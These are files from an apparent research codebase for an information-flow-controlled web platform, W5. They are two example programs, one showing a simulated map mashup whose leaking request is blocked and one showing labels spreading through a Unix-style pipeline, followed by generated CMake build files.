// map provider's servers. On W5 the same feature is computed server-side;
// the map developer's service sees only a generic tile request, and an
// app that tries the leaking order is refused by the perimeter.
#include <iostream>
#include <vector>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"

using w5::net::Method;

int main() {
  w5::util::WallClock clock;
  w5::platform::Provider provider(w5::platform::ProviderConfig{}, clock);
  w5::apps::register_standard_apps(provider);

  (void)provider.signup("bob", "password");
  const std::string session = provider.login("bob", "password").value();

  // Bob's private address book.
  provider.http(Method::kPost, "/data/addressbook/bob",
                R"({"mom":"12 elm st","dentist":"9 oak ave"})", session);

  // Observe exactly what reaches the simulated map service.
  std::vector<std::string> outbound;
  provider.set_external_fetcher(
      [&](const std::string& url) -> w5::util::Result<std::string> {
        outbound.push_back(url);
        return std::string("[map tiles]");
      });

  std::cout << "== the honest mashup (tiles first, addresses second) ==\n";
  const auto map =
      provider.http(Method::kGet, "/dev/mashupco/addressmap", "", session);
  std::cout << "  status " << map.status << "\n  body " << map.body << "\n";

  std::cout << "== the leaking order (addresses first) ==\n";
  const auto leak = provider.http(Method::kGet,
                                  "/dev/mashupco/addressmap?leak=1", "",
                                  session);
  std::cout << "  status " << leak.status << "\n  body " << leak.body << "\n";

  std::cout << "== what the map developer's servers actually saw ==\n";
  bool leaked = false;
  for (const auto& url : outbound) {
    std::cout << "  GET " << url << "\n";
    if (url.find("elm") != std::string::npos ||
        url.find("oak") != std::string::npos) {
      leaked = true;
    }
  }
  std::cout << (leaked ? "ADDRESSES LEAKED (bug!)"
                       : "no address ever left the perimeter")
            << "\n";
  return leaked ? 1 : 0;
}
