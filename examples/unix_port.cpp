// Porting "existing software" to W5 (§2: the Unix syscall API "would
// allow existing software to run on W5"). Here: a classic wc-style tool
// written against open/read/close, plus a two-process pipeline
// (producer | consumer) over flow-checked pipes — and the proof that the
// ported code inherits W5's rules for free: reading a labeled file
// contaminates it, and the contaminated side of a pipeline contaminates
// its downstream.
#include <iostream>

#include "os/syscalls.h"

using namespace w5::os;
using w5::difc::Label;
using w5::difc::LabelState;
using w5::difc::ObjectLabels;

namespace {

// The "existing software": counts lines/words/bytes through the fd API.
struct Counts {
  std::size_t lines = 0, words = 0, bytes = 0;
};

Counts wc(Syscalls& sys, Pid pid, Fd fd) {
  Counts counts;
  bool in_word = false;
  while (true) {
    auto chunk = sys.read(pid, fd, 4096);
    if (!chunk.ok() || chunk.value().empty()) break;
    counts.bytes += chunk.value().size();
    for (char c : chunk.value()) {
      if (c == '\n') ++counts.lines;
      const bool space = c == ' ' || c == '\n' || c == '\t';
      if (!space && !in_word) ++counts.words;
      in_word = !space;
    }
  }
  return counts;
}

}  // namespace

int main() {
  Kernel kernel;
  FileSystem fs(kernel);
  IpcBus ipc(kernel);
  Syscalls sys(kernel, fs, ipc);

  const auto secret =
      kernel.create_tag(kKernelPid, "sec(bob)",
                        w5::difc::TagPurpose::kSecrecy).value();
  kernel.add_global_capability(w5::difc::plus(secret));
  (void)fs.create(kKernelPid, "/diary.txt",
                  ObjectLabels{Label{secret}, {}},
                  "dear diary\ntoday the labels followed me home\n");

  const Pid tool = kernel.spawn_trusted("wc", LabelState({}, {}, {}));
  auto fd = sys.open(tool, "/diary.txt", OpenMode::kRead);
  const Counts counts = wc(sys, tool, fd.value());
  std::cout << "wc /diary.txt: " << counts.lines << " lines, "
            << counts.words << " words, " << counts.bytes << " bytes\n";
  std::cout << "wc process label after reading: "
            << kernel.find(tool)->labels.secrecy().to_string() << "\n";

  // Pipeline: wc | formatter. The formatter starts clean; receiving from
  // the contaminated wc raises its label too.
  const Pid formatter = kernel.spawn_trusted("fmt", LabelState({}, {}, {}));
  auto fds = sys.pipe(tool, formatter).value();
  (void)sys.write(tool, fds.first,
                  std::to_string(counts.words) + " words");
  auto received = sys.read(formatter, fds.second, 128);
  std::cout << "formatter received: \"" << received.value() << "\"\n";
  std::cout << "formatter label after the pipe: "
            << kernel.find(formatter)->labels.secrecy().to_string() << "\n";

  const bool contaminated =
      kernel.find(formatter)->labels.secrecy().contains(secret);
  std::cout << (contaminated
                    ? "contamination followed the pipeline, as it must"
                    : "BUG: label was lost in the pipeline")
            << "\n";
  return contaminated ? 0 : 1;
}
