file(REMOVE_RECURSE
  "CMakeFiles/w5_rank.dir/rank/depgraph.cpp.o"
  "CMakeFiles/w5_rank.dir/rank/depgraph.cpp.o.d"
  "CMakeFiles/w5_rank.dir/rank/pagerank.cpp.o"
  "CMakeFiles/w5_rank.dir/rank/pagerank.cpp.o.d"
  "CMakeFiles/w5_rank.dir/rank/reputation.cpp.o"
  "CMakeFiles/w5_rank.dir/rank/reputation.cpp.o.d"
  "CMakeFiles/w5_rank.dir/rank/search.cpp.o"
  "CMakeFiles/w5_rank.dir/rank/search.cpp.o.d"
  "libw5_rank.a"
  "libw5_rank.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/w5_rank.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
