
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/rank/depgraph.cpp" "src/CMakeFiles/w5_rank.dir/rank/depgraph.cpp.o" "gcc" "src/CMakeFiles/w5_rank.dir/rank/depgraph.cpp.o.d"
  "/root/repo/src/rank/pagerank.cpp" "src/CMakeFiles/w5_rank.dir/rank/pagerank.cpp.o" "gcc" "src/CMakeFiles/w5_rank.dir/rank/pagerank.cpp.o.d"
  "/root/repo/src/rank/reputation.cpp" "src/CMakeFiles/w5_rank.dir/rank/reputation.cpp.o" "gcc" "src/CMakeFiles/w5_rank.dir/rank/reputation.cpp.o.d"
  "/root/repo/src/rank/search.cpp" "src/CMakeFiles/w5_rank.dir/rank/search.cpp.o" "gcc" "src/CMakeFiles/w5_rank.dir/rank/search.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/CMakeFiles/w5_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
