file(REMOVE_RECURSE
  "libw5_rank.a"
)
