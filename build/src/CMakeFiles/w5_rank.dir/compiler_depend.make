# Empty compiler generated dependencies file for w5_rank.
# This may be replaced when dependencies are built.
