
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/os/filesystem.cpp" "src/CMakeFiles/w5_os.dir/os/filesystem.cpp.o" "gcc" "src/CMakeFiles/w5_os.dir/os/filesystem.cpp.o.d"
  "/root/repo/src/os/ipc.cpp" "src/CMakeFiles/w5_os.dir/os/ipc.cpp.o" "gcc" "src/CMakeFiles/w5_os.dir/os/ipc.cpp.o.d"
  "/root/repo/src/os/kernel.cpp" "src/CMakeFiles/w5_os.dir/os/kernel.cpp.o" "gcc" "src/CMakeFiles/w5_os.dir/os/kernel.cpp.o.d"
  "/root/repo/src/os/resources.cpp" "src/CMakeFiles/w5_os.dir/os/resources.cpp.o" "gcc" "src/CMakeFiles/w5_os.dir/os/resources.cpp.o.d"
  "/root/repo/src/os/scheduler.cpp" "src/CMakeFiles/w5_os.dir/os/scheduler.cpp.o" "gcc" "src/CMakeFiles/w5_os.dir/os/scheduler.cpp.o.d"
  "/root/repo/src/os/syscalls.cpp" "src/CMakeFiles/w5_os.dir/os/syscalls.cpp.o" "gcc" "src/CMakeFiles/w5_os.dir/os/syscalls.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/CMakeFiles/w5_difc.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
