file(REMOVE_RECURSE
  "CMakeFiles/w5_os.dir/os/filesystem.cpp.o"
  "CMakeFiles/w5_os.dir/os/filesystem.cpp.o.d"
  "CMakeFiles/w5_os.dir/os/ipc.cpp.o"
  "CMakeFiles/w5_os.dir/os/ipc.cpp.o.d"
  "CMakeFiles/w5_os.dir/os/kernel.cpp.o"
  "CMakeFiles/w5_os.dir/os/kernel.cpp.o.d"
  "CMakeFiles/w5_os.dir/os/resources.cpp.o"
  "CMakeFiles/w5_os.dir/os/resources.cpp.o.d"
  "CMakeFiles/w5_os.dir/os/scheduler.cpp.o"
  "CMakeFiles/w5_os.dir/os/scheduler.cpp.o.d"
  "CMakeFiles/w5_os.dir/os/syscalls.cpp.o"
  "CMakeFiles/w5_os.dir/os/syscalls.cpp.o.d"
  "libw5_os.a"
  "libw5_os.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/w5_os.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
