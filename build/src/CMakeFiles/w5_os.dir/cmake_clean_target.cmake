file(REMOVE_RECURSE
  "libw5_os.a"
)
