# Empty compiler generated dependencies file for w5_os.
# This may be replaced when dependencies are built.
