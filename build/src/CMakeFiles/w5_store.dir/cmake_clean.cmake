file(REMOVE_RECURSE
  "CMakeFiles/w5_store.dir/store/labeled_store.cpp.o"
  "CMakeFiles/w5_store.dir/store/labeled_store.cpp.o.d"
  "CMakeFiles/w5_store.dir/store/query.cpp.o"
  "CMakeFiles/w5_store.dir/store/query.cpp.o.d"
  "CMakeFiles/w5_store.dir/store/record.cpp.o"
  "CMakeFiles/w5_store.dir/store/record.cpp.o.d"
  "libw5_store.a"
  "libw5_store.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/w5_store.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
