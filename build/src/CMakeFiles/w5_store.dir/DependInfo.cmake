
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/store/labeled_store.cpp" "src/CMakeFiles/w5_store.dir/store/labeled_store.cpp.o" "gcc" "src/CMakeFiles/w5_store.dir/store/labeled_store.cpp.o.d"
  "/root/repo/src/store/query.cpp" "src/CMakeFiles/w5_store.dir/store/query.cpp.o" "gcc" "src/CMakeFiles/w5_store.dir/store/query.cpp.o.d"
  "/root/repo/src/store/record.cpp" "src/CMakeFiles/w5_store.dir/store/record.cpp.o" "gcc" "src/CMakeFiles/w5_store.dir/store/record.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/CMakeFiles/w5_difc.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
