file(REMOVE_RECURSE
  "libw5_store.a"
)
