# Empty compiler generated dependencies file for w5_store.
# This may be replaced when dependencies are built.
