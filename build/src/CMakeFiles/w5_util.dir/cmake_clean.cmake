file(REMOVE_RECURSE
  "CMakeFiles/w5_util.dir/util/bytes.cpp.o"
  "CMakeFiles/w5_util.dir/util/bytes.cpp.o.d"
  "CMakeFiles/w5_util.dir/util/json.cpp.o"
  "CMakeFiles/w5_util.dir/util/json.cpp.o.d"
  "CMakeFiles/w5_util.dir/util/log.cpp.o"
  "CMakeFiles/w5_util.dir/util/log.cpp.o.d"
  "CMakeFiles/w5_util.dir/util/rng.cpp.o"
  "CMakeFiles/w5_util.dir/util/rng.cpp.o.d"
  "CMakeFiles/w5_util.dir/util/sha256.cpp.o"
  "CMakeFiles/w5_util.dir/util/sha256.cpp.o.d"
  "CMakeFiles/w5_util.dir/util/strings.cpp.o"
  "CMakeFiles/w5_util.dir/util/strings.cpp.o.d"
  "libw5_util.a"
  "libw5_util.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/w5_util.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
