file(REMOVE_RECURSE
  "libw5_util.a"
)
