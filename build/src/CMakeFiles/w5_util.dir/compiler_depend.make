# Empty compiler generated dependencies file for w5_util.
# This may be replaced when dependencies are built.
