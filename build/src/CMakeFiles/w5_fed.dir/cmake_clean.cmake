file(REMOVE_RECURSE
  "CMakeFiles/w5_fed.dir/fed/mirror.cpp.o"
  "CMakeFiles/w5_fed.dir/fed/mirror.cpp.o.d"
  "CMakeFiles/w5_fed.dir/fed/node.cpp.o"
  "CMakeFiles/w5_fed.dir/fed/node.cpp.o.d"
  "CMakeFiles/w5_fed.dir/fed/vector_clock.cpp.o"
  "CMakeFiles/w5_fed.dir/fed/vector_clock.cpp.o.d"
  "libw5_fed.a"
  "libw5_fed.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/w5_fed.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
