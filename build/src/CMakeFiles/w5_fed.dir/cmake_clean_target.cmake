file(REMOVE_RECURSE
  "libw5_fed.a"
)
