# Empty compiler generated dependencies file for w5_fed.
# This may be replaced when dependencies are built.
