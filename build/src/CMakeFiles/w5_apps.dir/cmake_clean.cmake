file(REMOVE_RECURSE
  "CMakeFiles/w5_apps.dir/apps/blog.cpp.o"
  "CMakeFiles/w5_apps.dir/apps/blog.cpp.o.d"
  "CMakeFiles/w5_apps.dir/apps/chameleon.cpp.o"
  "CMakeFiles/w5_apps.dir/apps/chameleon.cpp.o.d"
  "CMakeFiles/w5_apps.dir/apps/dating.cpp.o"
  "CMakeFiles/w5_apps.dir/apps/dating.cpp.o.d"
  "CMakeFiles/w5_apps.dir/apps/mashup.cpp.o"
  "CMakeFiles/w5_apps.dir/apps/mashup.cpp.o.d"
  "CMakeFiles/w5_apps.dir/apps/photo.cpp.o"
  "CMakeFiles/w5_apps.dir/apps/photo.cpp.o.d"
  "CMakeFiles/w5_apps.dir/apps/recommender.cpp.o"
  "CMakeFiles/w5_apps.dir/apps/recommender.cpp.o.d"
  "CMakeFiles/w5_apps.dir/apps/social.cpp.o"
  "CMakeFiles/w5_apps.dir/apps/social.cpp.o.d"
  "libw5_apps.a"
  "libw5_apps.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/w5_apps.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
