file(REMOVE_RECURSE
  "libw5_apps.a"
)
