# Empty compiler generated dependencies file for w5_apps.
# This may be replaced when dependencies are built.
