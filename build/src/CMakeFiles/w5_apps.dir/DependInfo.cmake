
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/apps/blog.cpp" "src/CMakeFiles/w5_apps.dir/apps/blog.cpp.o" "gcc" "src/CMakeFiles/w5_apps.dir/apps/blog.cpp.o.d"
  "/root/repo/src/apps/chameleon.cpp" "src/CMakeFiles/w5_apps.dir/apps/chameleon.cpp.o" "gcc" "src/CMakeFiles/w5_apps.dir/apps/chameleon.cpp.o.d"
  "/root/repo/src/apps/dating.cpp" "src/CMakeFiles/w5_apps.dir/apps/dating.cpp.o" "gcc" "src/CMakeFiles/w5_apps.dir/apps/dating.cpp.o.d"
  "/root/repo/src/apps/mashup.cpp" "src/CMakeFiles/w5_apps.dir/apps/mashup.cpp.o" "gcc" "src/CMakeFiles/w5_apps.dir/apps/mashup.cpp.o.d"
  "/root/repo/src/apps/photo.cpp" "src/CMakeFiles/w5_apps.dir/apps/photo.cpp.o" "gcc" "src/CMakeFiles/w5_apps.dir/apps/photo.cpp.o.d"
  "/root/repo/src/apps/recommender.cpp" "src/CMakeFiles/w5_apps.dir/apps/recommender.cpp.o" "gcc" "src/CMakeFiles/w5_apps.dir/apps/recommender.cpp.o.d"
  "/root/repo/src/apps/social.cpp" "src/CMakeFiles/w5_apps.dir/apps/social.cpp.o" "gcc" "src/CMakeFiles/w5_apps.dir/apps/social.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/CMakeFiles/w5_core.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_os.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_net.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_store.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_difc.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_rank.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
