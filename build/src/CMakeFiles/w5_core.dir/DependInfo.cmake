
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/core/app_context.cpp" "src/CMakeFiles/w5_core.dir/core/app_context.cpp.o" "gcc" "src/CMakeFiles/w5_core.dir/core/app_context.cpp.o.d"
  "/root/repo/src/core/audit.cpp" "src/CMakeFiles/w5_core.dir/core/audit.cpp.o" "gcc" "src/CMakeFiles/w5_core.dir/core/audit.cpp.o.d"
  "/root/repo/src/core/auth.cpp" "src/CMakeFiles/w5_core.dir/core/auth.cpp.o" "gcc" "src/CMakeFiles/w5_core.dir/core/auth.cpp.o.d"
  "/root/repo/src/core/declassifier.cpp" "src/CMakeFiles/w5_core.dir/core/declassifier.cpp.o" "gcc" "src/CMakeFiles/w5_core.dir/core/declassifier.cpp.o.d"
  "/root/repo/src/core/gateway.cpp" "src/CMakeFiles/w5_core.dir/core/gateway.cpp.o" "gcc" "src/CMakeFiles/w5_core.dir/core/gateway.cpp.o.d"
  "/root/repo/src/core/module_registry.cpp" "src/CMakeFiles/w5_core.dir/core/module_registry.cpp.o" "gcc" "src/CMakeFiles/w5_core.dir/core/module_registry.cpp.o.d"
  "/root/repo/src/core/policy.cpp" "src/CMakeFiles/w5_core.dir/core/policy.cpp.o" "gcc" "src/CMakeFiles/w5_core.dir/core/policy.cpp.o.d"
  "/root/repo/src/core/provider.cpp" "src/CMakeFiles/w5_core.dir/core/provider.cpp.o" "gcc" "src/CMakeFiles/w5_core.dir/core/provider.cpp.o.d"
  "/root/repo/src/core/sanitizer.cpp" "src/CMakeFiles/w5_core.dir/core/sanitizer.cpp.o" "gcc" "src/CMakeFiles/w5_core.dir/core/sanitizer.cpp.o.d"
  "/root/repo/src/core/search_service.cpp" "src/CMakeFiles/w5_core.dir/core/search_service.cpp.o" "gcc" "src/CMakeFiles/w5_core.dir/core/search_service.cpp.o.d"
  "/root/repo/src/core/user.cpp" "src/CMakeFiles/w5_core.dir/core/user.cpp.o" "gcc" "src/CMakeFiles/w5_core.dir/core/user.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/CMakeFiles/w5_os.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_net.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_store.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_rank.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_difc.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
