file(REMOVE_RECURSE
  "libw5_core.a"
)
