file(REMOVE_RECURSE
  "CMakeFiles/w5_core.dir/core/app_context.cpp.o"
  "CMakeFiles/w5_core.dir/core/app_context.cpp.o.d"
  "CMakeFiles/w5_core.dir/core/audit.cpp.o"
  "CMakeFiles/w5_core.dir/core/audit.cpp.o.d"
  "CMakeFiles/w5_core.dir/core/auth.cpp.o"
  "CMakeFiles/w5_core.dir/core/auth.cpp.o.d"
  "CMakeFiles/w5_core.dir/core/declassifier.cpp.o"
  "CMakeFiles/w5_core.dir/core/declassifier.cpp.o.d"
  "CMakeFiles/w5_core.dir/core/gateway.cpp.o"
  "CMakeFiles/w5_core.dir/core/gateway.cpp.o.d"
  "CMakeFiles/w5_core.dir/core/module_registry.cpp.o"
  "CMakeFiles/w5_core.dir/core/module_registry.cpp.o.d"
  "CMakeFiles/w5_core.dir/core/policy.cpp.o"
  "CMakeFiles/w5_core.dir/core/policy.cpp.o.d"
  "CMakeFiles/w5_core.dir/core/provider.cpp.o"
  "CMakeFiles/w5_core.dir/core/provider.cpp.o.d"
  "CMakeFiles/w5_core.dir/core/sanitizer.cpp.o"
  "CMakeFiles/w5_core.dir/core/sanitizer.cpp.o.d"
  "CMakeFiles/w5_core.dir/core/search_service.cpp.o"
  "CMakeFiles/w5_core.dir/core/search_service.cpp.o.d"
  "CMakeFiles/w5_core.dir/core/user.cpp.o"
  "CMakeFiles/w5_core.dir/core/user.cpp.o.d"
  "libw5_core.a"
  "libw5_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/w5_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
