# Empty compiler generated dependencies file for w5_core.
# This may be replaced when dependencies are built.
