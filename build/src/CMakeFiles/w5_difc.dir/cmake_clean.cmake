file(REMOVE_RECURSE
  "CMakeFiles/w5_difc.dir/difc/capability.cpp.o"
  "CMakeFiles/w5_difc.dir/difc/capability.cpp.o.d"
  "CMakeFiles/w5_difc.dir/difc/codec.cpp.o"
  "CMakeFiles/w5_difc.dir/difc/codec.cpp.o.d"
  "CMakeFiles/w5_difc.dir/difc/endpoint.cpp.o"
  "CMakeFiles/w5_difc.dir/difc/endpoint.cpp.o.d"
  "CMakeFiles/w5_difc.dir/difc/flow.cpp.o"
  "CMakeFiles/w5_difc.dir/difc/flow.cpp.o.d"
  "CMakeFiles/w5_difc.dir/difc/label.cpp.o"
  "CMakeFiles/w5_difc.dir/difc/label.cpp.o.d"
  "CMakeFiles/w5_difc.dir/difc/label_state.cpp.o"
  "CMakeFiles/w5_difc.dir/difc/label_state.cpp.o.d"
  "CMakeFiles/w5_difc.dir/difc/tag.cpp.o"
  "CMakeFiles/w5_difc.dir/difc/tag.cpp.o.d"
  "CMakeFiles/w5_difc.dir/difc/tag_registry.cpp.o"
  "CMakeFiles/w5_difc.dir/difc/tag_registry.cpp.o.d"
  "libw5_difc.a"
  "libw5_difc.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/w5_difc.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
