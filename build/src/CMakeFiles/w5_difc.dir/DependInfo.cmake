
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/difc/capability.cpp" "src/CMakeFiles/w5_difc.dir/difc/capability.cpp.o" "gcc" "src/CMakeFiles/w5_difc.dir/difc/capability.cpp.o.d"
  "/root/repo/src/difc/codec.cpp" "src/CMakeFiles/w5_difc.dir/difc/codec.cpp.o" "gcc" "src/CMakeFiles/w5_difc.dir/difc/codec.cpp.o.d"
  "/root/repo/src/difc/endpoint.cpp" "src/CMakeFiles/w5_difc.dir/difc/endpoint.cpp.o" "gcc" "src/CMakeFiles/w5_difc.dir/difc/endpoint.cpp.o.d"
  "/root/repo/src/difc/flow.cpp" "src/CMakeFiles/w5_difc.dir/difc/flow.cpp.o" "gcc" "src/CMakeFiles/w5_difc.dir/difc/flow.cpp.o.d"
  "/root/repo/src/difc/label.cpp" "src/CMakeFiles/w5_difc.dir/difc/label.cpp.o" "gcc" "src/CMakeFiles/w5_difc.dir/difc/label.cpp.o.d"
  "/root/repo/src/difc/label_state.cpp" "src/CMakeFiles/w5_difc.dir/difc/label_state.cpp.o" "gcc" "src/CMakeFiles/w5_difc.dir/difc/label_state.cpp.o.d"
  "/root/repo/src/difc/tag.cpp" "src/CMakeFiles/w5_difc.dir/difc/tag.cpp.o" "gcc" "src/CMakeFiles/w5_difc.dir/difc/tag.cpp.o.d"
  "/root/repo/src/difc/tag_registry.cpp" "src/CMakeFiles/w5_difc.dir/difc/tag_registry.cpp.o" "gcc" "src/CMakeFiles/w5_difc.dir/difc/tag_registry.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/CMakeFiles/w5_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
