# Empty dependencies file for w5_difc.
# This may be replaced when dependencies are built.
