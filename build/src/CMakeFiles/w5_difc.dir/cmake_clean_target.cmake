file(REMOVE_RECURSE
  "libw5_difc.a"
)
