
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/net/cookies.cpp" "src/CMakeFiles/w5_net.dir/net/cookies.cpp.o" "gcc" "src/CMakeFiles/w5_net.dir/net/cookies.cpp.o.d"
  "/root/repo/src/net/http.cpp" "src/CMakeFiles/w5_net.dir/net/http.cpp.o" "gcc" "src/CMakeFiles/w5_net.dir/net/http.cpp.o.d"
  "/root/repo/src/net/http_client.cpp" "src/CMakeFiles/w5_net.dir/net/http_client.cpp.o" "gcc" "src/CMakeFiles/w5_net.dir/net/http_client.cpp.o.d"
  "/root/repo/src/net/http_parser.cpp" "src/CMakeFiles/w5_net.dir/net/http_parser.cpp.o" "gcc" "src/CMakeFiles/w5_net.dir/net/http_parser.cpp.o.d"
  "/root/repo/src/net/http_server.cpp" "src/CMakeFiles/w5_net.dir/net/http_server.cpp.o" "gcc" "src/CMakeFiles/w5_net.dir/net/http_server.cpp.o.d"
  "/root/repo/src/net/router.cpp" "src/CMakeFiles/w5_net.dir/net/router.cpp.o" "gcc" "src/CMakeFiles/w5_net.dir/net/router.cpp.o.d"
  "/root/repo/src/net/tcp.cpp" "src/CMakeFiles/w5_net.dir/net/tcp.cpp.o" "gcc" "src/CMakeFiles/w5_net.dir/net/tcp.cpp.o.d"
  "/root/repo/src/net/transport.cpp" "src/CMakeFiles/w5_net.dir/net/transport.cpp.o" "gcc" "src/CMakeFiles/w5_net.dir/net/transport.cpp.o.d"
  "/root/repo/src/net/uri.cpp" "src/CMakeFiles/w5_net.dir/net/uri.cpp.o" "gcc" "src/CMakeFiles/w5_net.dir/net/uri.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/CMakeFiles/w5_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
