file(REMOVE_RECURSE
  "libw5_net.a"
)
