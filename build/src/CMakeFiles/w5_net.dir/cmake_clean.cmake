file(REMOVE_RECURSE
  "CMakeFiles/w5_net.dir/net/cookies.cpp.o"
  "CMakeFiles/w5_net.dir/net/cookies.cpp.o.d"
  "CMakeFiles/w5_net.dir/net/http.cpp.o"
  "CMakeFiles/w5_net.dir/net/http.cpp.o.d"
  "CMakeFiles/w5_net.dir/net/http_client.cpp.o"
  "CMakeFiles/w5_net.dir/net/http_client.cpp.o.d"
  "CMakeFiles/w5_net.dir/net/http_parser.cpp.o"
  "CMakeFiles/w5_net.dir/net/http_parser.cpp.o.d"
  "CMakeFiles/w5_net.dir/net/http_server.cpp.o"
  "CMakeFiles/w5_net.dir/net/http_server.cpp.o.d"
  "CMakeFiles/w5_net.dir/net/router.cpp.o"
  "CMakeFiles/w5_net.dir/net/router.cpp.o.d"
  "CMakeFiles/w5_net.dir/net/tcp.cpp.o"
  "CMakeFiles/w5_net.dir/net/tcp.cpp.o.d"
  "CMakeFiles/w5_net.dir/net/transport.cpp.o"
  "CMakeFiles/w5_net.dir/net/transport.cpp.o.d"
  "CMakeFiles/w5_net.dir/net/uri.cpp.o"
  "CMakeFiles/w5_net.dir/net/uri.cpp.o.d"
  "libw5_net.a"
  "libw5_net.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/w5_net.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
