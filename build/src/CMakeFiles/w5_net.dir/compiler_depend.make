# Empty compiler generated dependencies file for w5_net.
# This may be replaced when dependencies are built.
