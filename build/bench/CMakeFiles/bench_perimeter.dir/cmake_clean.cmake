file(REMOVE_RECURSE
  "CMakeFiles/bench_perimeter.dir/bench_perimeter.cpp.o"
  "CMakeFiles/bench_perimeter.dir/bench_perimeter.cpp.o.d"
  "bench_perimeter"
  "bench_perimeter.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_perimeter.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
